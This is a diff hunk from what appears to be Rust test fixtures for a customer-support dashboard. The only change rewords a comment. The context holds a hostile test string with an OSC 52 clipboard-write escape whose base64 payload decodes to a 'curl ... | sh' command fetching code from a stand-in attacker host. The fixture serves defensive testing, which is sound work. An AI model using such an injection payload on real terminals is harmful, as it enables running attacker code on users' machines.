@@ -149,7 +149,7 @@ const FOLLOW_UPS: &[&str] = &[
 const CJK_QUESTION: &str = "你好！我想了解一下首次购房的贷款。首付最少需要百分之几？";
 
 /// One customer writes this: a message full of terminal escape sequences (OSC 52 clipboard
-/// write, OSC 8 link, OSC 0 title, CSI 2J, 8-bit CSI), a bidi override and zero-width
+/// write, OSC 8 connection, OSC 0 title, CSI 2J, 8-bit CSI), a bidi override and zero-width
 /// characters. The dashboard must show it as inert text.
 pub const HOSTILE_QUESTION: &str = concat!(
     "Hello\u{1b}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\u{7}",
